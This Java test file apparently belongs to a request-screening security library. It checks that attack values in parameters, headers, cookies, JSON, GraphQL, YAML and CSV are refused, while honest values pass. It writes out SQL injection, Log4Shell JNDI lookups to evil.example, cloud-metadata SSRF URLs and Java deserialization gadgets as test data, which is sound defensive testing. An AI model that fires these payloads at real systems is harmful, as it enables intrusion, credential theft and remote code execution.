package io.github.raspspring.ways;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.Base64;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * What stands in a document within a value is judged as a value, whatever carries it.
 */
class InnerDocumentTests extends WaysTest {

	private static final String ATTACK = "x' union select password from users where 'a'='a";

	@ParameterizedTest
	@ValueSource(strings = { "{\"a\":\"O'Neill\"}", "[1,2,3]", "{not json", "[it's a list]", "{\"query\":\"{ a }\"}",
			"\"quoted\"", "{\"url\":\"https://example.com/a\"}", "{\"a\":\"{\\\"b\\\":\\\"don't\\\"}\"}" })
	void documentWhenHonestThenIsRead(String document) throws Exception {
		assertThat(query("q", document).body()).isEqualTo(document);
		assertThat(form("q", document).body()).isEqualTo(document);
		String json = "{\"q\":\"" + Way.escape(document) + "\"}";
		assertThat(server().post("/mvc/object", "application/json", json).body()).isEqualTo(document);
	}

	@ParameterizedTest
	@ValueSource(strings = { "{\"a\":\"%s\"}", "[\"%s\"]", "{\"a\":[{\"b\":\"%s\"}]}", " {\"%s\":1}", "\"%s\"",
			"{\"a\":\"{\\\"b\\\":\\\"%s\\\"}\"}" })
	void documentWhenItHoldsAnAttackThenIsRefused(String document) throws Exception {
		String text = document.formatted(ATTACK.replace("'", "\\u0027"));
		WaysServer.assertRefused(query("q", text));
		WaysServer.assertRefused(query("variables", text));
		WaysServer.assertRefused(form("q", text));
		WaysServer
			.assertRefused(server().post("/mvc/object", "application/json", "{\"q\":\"" + Way.escape(text) + "\"}"));
		WaysServer.assertRefused(server().send(server().request("/mvc/unread").header("X-Any", text).build()));
	}

	@ParameterizedTest
	@ValueSource(strings = { "{ user(name: \"%s\") { id } }", "query Q { a(b: {c: [\"%s\"]}) { d } }",
			"mutation { add(text: \"\"\"%s\"\"\") { id } }", "{ a(b: \"fine\", c: \"%s\") { d } } # it's",
			"query { a(b: \"\\\"%s\") { c } }", "{a(b:\"\\u0078%s\"){c}}" })
	void literalOfGraphQlWhenAnAttackThenIsRefused(String document) throws Exception {
		String text = document.formatted(ATTACK);
		WaysServer.assertRefused(query("query", text));
		WaysServer.assertRefused(
				server().post("/mvc/string", "application/json", "{\"query\":\"" + Way.escape(text) + "\"}"));
		WaysServer.assertRefused(server().post("/mvc/string", "application/graphql", text));
	}

	@ParameterizedTest
	@ValueSource(strings = { "{ user(name: \"O'Neill\") { id } }", "{ a(b: \"x = 1 or y\") { c } }", "{ a { b } }",
			"query Q($v: String!) { a(b: $v) { c } }", "{ a(b: \"\"\"it's\n'fine'\"\"\") { c } }",
			"{ a(b: \"union of select books\") { c } } # don't" })
	void literalOfGraphQlWhenHonestThenIsRead(String document) throws Exception {
		assertThat(server().post("/mvc/string", "application/graphql", document).body()).isEqualTo(document);
		assertThat(query("query", document).statusCode()).isEqualTo(200);
	}

	@ParameterizedTest
	@ValueSource(strings = { "a: %s", "- \"%s\"", "a:\n  b: %s\n", "a: |\n  %s\n", "a: ['b', \"%s\"]", "%s: 1" })
	void scalarOfYamlWhenAnAttackThenIsRefused(String document) throws Exception {
		for (String type : new String[] { "application/yaml", "text/yaml", "application/x-yaml" }) {
			WaysServer.assertRefused(server().post("/mvc/bytes", type, document.formatted(ATTACK)));
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "%s,1\n", "a,b\n1,%s\n", "\"%s\";2", "a\t%s", "\"a\nb\",\"%s\"\n", "1,2\r\n%s" })
	void cellOfCsvWhenAnAttackThenIsRefused(String document) throws Exception {
		WaysServer.assertRefused(server().post("/mvc/bytes", "text/csv", document.formatted(ATTACK)));
	}

	@ParameterizedTest
	@ValueSource(strings = { "a,b\n1,O'Neill\n", "\"Smith, \"\"Jo\"\"\",'s-Hertogenbosch\n", "a: it's\n",
			"- x # don't\n", "a: 'it''s'\nb: |\n  two\n  lines\n", "id;name\n1;5 > 4\n" })
	void tableAndSettingsWhenHonestThenAreRead(String document) throws Exception {
		assertThat(server().post("/mvc/bytes", "text/csv", document).body()).isEqualTo(document);
		assertThat(server().post("/mvc/bytes", "application/yaml", document).body()).isEqualTo(document);
	}

	@ParameterizedTest
	@ValueSource(strings = { "${jndi:ldap://evil.example/a}:x", "${jndi:ldap://evil.example/a}", ATTACK + ":x",
			"x:${jndi:ldap://evil.example/a}", "${jndi:rmi://evil.example:1099/a}:b", "a:${jndi:dns://evil.example}" })
	void credentialsWhenAnAttackThenAreRefused(String credentials) throws Exception {
		WaysServer.assertRefused(authorized("Basic " + base64(credentials)));
		WaysServer.assertRefused(authorized("basic  " + base64(credentials)));
	}

	@ParameterizedTest
	@ValueSource(strings = { "ApiKey %s", "Token token=\"%s\"", "%s", "Digest username=\"%s\", realm=\"a\"",
			"Custom a=%s", "AWS4-HMAC-SHA256 Credential=%s" })
	void authorizationOfAnotherSchemeWhenAnAttackThenIsRefused(String value) throws Exception {
		WaysServer.assertRefused(authorized(value.formatted(ATTACK)));
	}

	@ParameterizedTest
	@ValueSource(strings = { "Bearer abc.def-ghi_j~+/==", "ApiKey 12-ab", "DPoP abc", "Negotiate YIIa'==",
			"Digest username=\"O'Neill\", realm=\"a\", uri=\"/a?b=c\"", "Token token=\"abc\"",
			"AWS4-HMAC-SHA256 Credential=AKIA/20260101/eu-west-1/s3/aws4_request, SignedHeaders=host;x-amz-date, Signature=ab",
			"Basic YW5uOm8nbmVpbGw=",
			// The password: ' or 1=1 --. Only a sink tells whether a password does harm.
			"Basic YW5uOicgb3IgMT0xIC0t" })
	void authorizationWhenHonestThenIsRead(String value) throws Exception {
		assertThat(authorized(value).statusCode()).isEqualTo(200);
	}

	@ParameterizedTest
	@ValueSource(strings = { "a=%s", "a b=%s", "=%s", "%s", "a=1; b c=%s", "a=\"%s", "a[]=%s" })
	void cookieWhenAnAttackThenIsRefusedThoughDropped(String cookie) throws Exception {
		WaysServer.assertRefused(
				server().send(server().request("/mvc/unread").header("Cookie", cookie.formatted(ATTACK)).build()));
	}

	/** However many cookies there are, and however they are separated. */
	@ParameterizedTest
	@ValueSource(strings = { "a=1;%s b", "a=1; b=2;%s b", "a=1;b=2;c=3;%s b", "%s b;a=1", "a=1;%s b;", ";;%s b" })
	void cookieWhenDroppedAmongOthersThenIsRefused(String cookies) throws Exception {
		String many = "c=1;".repeat(60) + cookies.formatted(ATTACK);
		for (String cookie : new String[] { cookies.formatted(ATTACK), many }) {
			WaysServer.assertRefused(server().send(server().request("/mvc/unread").header("Cookie", cookie).build()));
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "a=b", "a=b; c=d", "a=\"b c\"", "a={\"b\":\"c\"}", "a b=c; d",
			"_ga=GA1.2.3.4; x=%7B%22a%22%7D" })
	void cookieWhenHonestThenIsRead(String cookie) throws Exception {
		assertThat(server().send(server().request("/mvc/unread").header("Cookie", cookie).build()).statusCode())
			.isEqualTo(200);
	}

	@ParameterizedTest
	@ValueSource(strings = { "http://169.254.169.254/latest", "gopher://10.0.0.1/a", "http://0x7f000001/",
			"http://metadata.google.internal/",
			"rO0ABXNyADpvcmcuYXBhY2hlLmNvbW1vbnMuY29sbGVjdGlvbnMuZnVuY3RvcnMuSW52b2tlclRyYW5zZm9ybWVyh+j/a3t8zjgCAANbAAVp"
					+ "QXJnc3QAE1tMamF2YS9sYW5nL09iamVjdDs=",
			"com.sun.rowset.JdbcRowSetImpl" })
	void nameWhenAnAttackThenIsRefused(String name) throws Exception {
		WaysServer.assertRefused(query(name, "1"));
		WaysServer.assertRefused(form(name, "1"));
		WaysServer.assertRefused(server().post("/mvc/string", "application/json", "{\"" + Way.escape(name) + "\":1}"));
	}

	@ParameterizedTest
	@ValueSource(strings = { "http://schema.org/name", "https://example.com/a?b=c", "http://localhost:8080",
			"com.example.Service", "java.lang.String", "urn:isbn:123", "url", "file" })
	void nameWhenHonestThenIsRead(String name) throws Exception {
		assertThat(query(name, "1").statusCode()).isEqualTo(200);
		assertThat(server().post("/mvc/string", "application/json", "{\"" + name + "\":1}").statusCode())
			.isEqualTo(200);
	}

	private HttpResponse<String> query(String name, String value) throws Exception {
		return server()
			.send(server().request("/read/now/parameter?" + Way.encode(name) + "=" + Way.encode(value)).build());
	}

	private HttpResponse<String> form(String name, String value) throws Exception {
		return server().post("/read/now/parameter", "application/x-www-form-urlencoded",
				Way.encode(name) + "=" + Way.encode(value));
	}

	private HttpResponse<String> authorized(String value) throws Exception {
		return server().send(server().request("/mvc/unread").header("Authorization", value).build());
	}

	private static String base64(String text) {
		return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
	}

}
